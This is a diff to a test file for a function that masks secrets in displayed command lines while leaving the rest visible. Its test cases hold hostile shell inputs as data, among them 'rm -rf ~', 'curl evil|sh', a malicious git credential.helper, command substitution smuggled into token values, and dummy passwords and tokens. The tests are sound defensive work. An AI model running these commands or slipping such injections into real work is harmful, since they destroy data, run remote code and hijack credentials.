@@ -65,7 +65,7 @@ describe("what is no secret is shown as it is written", () => {
   });
 });
 
-describe("describeTarget shows a command in full", { meta: { covers: ["A21"] } }, () => {
+describe("describeTarget shows a command in full", { meta: { covers: ["A12", "A21"] } }, () => {
   it.each([
     ["npx -y foo", "npx -y foo"],
     ["${RUN:-/tmp/evil}", "${RUN:-/tmp/evil}"],
@@ -92,20 +92,59 @@ describe("describeTarget shows a command in full", { meta: { covers: ["A21"] } }
     ["npx", "-y", "mcp-svr-xkcdqz9"],
     ["node", "./build/qzx9f8/evil.js"],
     ["x", "-classpath", "core.sshCommand=evil"],
+    ["sh", "-c", "TOKEN= /tmp/evil/payload --now"],
+    ["sh", "-c", "API_KEY= rm -rf ~"],
+    ["sh", "-c", "x --token= reboot"],
+    ["sh", "-c", "pass=/tmp/evil/x && $pass"],
+    ["sh", "-c", "pass=scripts/x.sh && $pass"],
+    ["sh", "-c", "pass='/tmp/evil/x --now' && $pass"],
+    ["sh", "-c", "git -c credential.helper='!evil now' pull"],
+    ["sh", "-c", "GIT_ASKPASS=evil git pull"],
+    ["sh", "-c", "# it's\nenv 'TOKEN='x reboot -f p'x'"],
+    ["sh", "-c", "echo \\'; env 'TOKEN='x reboot -f p'x'"],
+    ["sh", "-c", 'echo "\\""; env "TOKEN="x reboot -f p"x"'],
+    ["sh", "-c", "sshpass -p $(reboot); mysql -p -e reboot; curl -u a:`reboot`"],
+    ["node", "--auth-script", "/tmp/evil.js"],
+    ["node", "--auth-script=/tmp/evil.js", "--token=/tmp/evil.js"],
+    ["node", "--token", "./evil.js"],
+    ["node", "--key-cmd", "curl evil|sh"],
+    ["env", "PASS=/tmp/evil", "sh"],
   ])("%s %s %s", (name, ...args) => {
     expect(command(name, ...args)).not.toContain("***");
   });
 
   it.each([
     ["exec server --token s3cret --port 80", "exec server --token *** --port 80"],
-    ["exec server --token='s3 cret' run", "exec server --token='*** cret' run"],
+    ["exec server --token='s3 cret' run", "exec server --token='***' run"],
     ["GITHUB_TOKEN=s3cret npx server", "GITHUB_TOKEN=*** npx server"],
     ["curl -H 'Authorization: Bearer s3cret' https://x/mcp", "curl -H 'Authorization: Bearer ***' https://x/mcp"],
     ["curl https://ann:s3cret@x/mcp?a=s3cret&b=s3cret", "curl https://***@x/mcp?a=***&b=***"],
     ["login ghp_16C7e42F292c6912E7710c838347Ae178B4a now", "login *** now"],
     ["login d41d8cd98f00b204e9800998ecf8427e now", "login *** now"],
+    ["export PGPASSWORD='correct horse battery staple'; run", "export PGPASSWORD='***'; run"],
+    ['tool --token="swordfish and more words" run', 'tool --token="***" run'],
+    ['tool --token "sword \\" fish" run', 'tool --token "***" run'],
+    ["TOKEN='s3cret\nreboot -f'", "TOKEN='***\nreboot -f'"],
+    ["tool --token='s3cret; reboot'", "tool --token='***; reboot'"],
+    ["tool --token='s3cret two $(reboot)'", "tool --token='*** two $(reboot)'"],
+    ["tool --auth-profile hunter --token größe", "tool --auth-profile *** --token ***"],
+    ["sshpass -p swordfish ssh -p 22 h", "sshpass -p *** ssh -p 22 h"],
+    ["sshpass -p 'sword fish' ssh h", "sshpass -p '***' ssh h"],
+    ["/usr/bin/mysql -u root -pswordfish db; x -pfast", "/usr/bin/mysql -u root -p*** db; x -pfast"],
+    ["mysqldump -p'sword fish' db", "mysqldump -p'***' db"],
+    ["mysqladmin -p${PW} ping | mariadb -pswordfish", "mysqladmin -p${PW} ping | mariadb -p***"],
+    ["curl -uadmin:swordfish x", "curl -uadmin:*** x"],
+    ["curl -s -u admin:swordfish -U ann:hunter x", "curl -s -u admin:*** -U ann:*** x"],
+    ["curl -su 'admin:sword fish' x", "curl -su 'admin:***' x"],
+    ["curl --user admin:swordfish x | sort -u a:b", "curl --user admin:*** x | sort -u a:b"],
+    ["wget -u admin:swordfish x", "wget -u admin:*** x"],
   ])("with only the secrets of it masked: %s", (script, shown) => {
     expect(command("sh", "-c", script)).toBe(`sh -c ${JSON.stringify(shown)}`);
+  });
+
+  it("with any number of comment signs and quotes", () => {
+    for (const sign of ["#", " #", " # '", '\\"', "'", '"'])
+      expect(() => command("sh", "-c", sign.repeat(20_000))).not.toThrow();
   });
 
   it("with the form of its JSON, and none of the values", () => {
